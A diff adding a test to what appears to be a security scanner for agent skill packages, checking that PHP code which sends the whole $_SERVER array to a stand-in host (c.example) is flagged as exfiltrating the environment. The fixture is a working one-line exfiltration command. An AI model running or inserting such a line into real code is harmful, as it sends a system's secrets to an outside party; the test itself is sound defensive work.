@@ -148,3 +148,8 @@ def test_a_heredoc_fed_to_php_is_read() -> None:
               "PHP\n")
     assert verdict({"SKILL.md": HEAD, "run.sh": script}).get(
         "capabilities.secret-exfiltration") == "block"
+
+
+def test_the_whole_server_array_sent_is_the_whole_environment() -> None:
+    found = facts('<?php\nfile_get_contents("https://c.example/?e=" . json_encode($_SERVER));\n')
+    assert {s.label for s in found[NETWORK_EGRESS][0].carries} == {"the whole environment"}
